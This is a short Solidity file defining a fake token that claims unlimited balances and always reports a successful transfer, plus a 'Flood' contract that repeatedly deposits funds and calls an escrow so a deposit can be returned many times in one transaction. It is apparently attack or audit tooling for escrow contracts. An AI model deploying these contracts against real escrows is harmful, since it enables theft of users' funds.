// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

interface Token {
    function transfer(address to, uint256 value) external returns (bool);
}

/// @notice A token that costs nothing, of which everybody has everything.
contract Worthless {
    function balanceOf(address) external pure returns (uint256) {
        return type(uint256).max;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }
}

/// @notice Has a deposit returned many times in one transaction.
contract Flood {
    /// @param value What is sent to the deposit address before each call.
    function run(address escrow, bytes calldata call, Token token, address deposit, uint256 value, uint256 times)
        external
        payable
    {
        for (uint256 i = 0; i < times; ++i) {
            bool done = true;
            if (address(token) == address(0)) (done,) = deposit.call{value: value}("");
            else if (value > 0) done = token.transfer(deposit, value);
            require(done, "nothing was sent");
            (done,) = escrow.call(call);
            require(done, "the escrow refused");
        }
    }
}
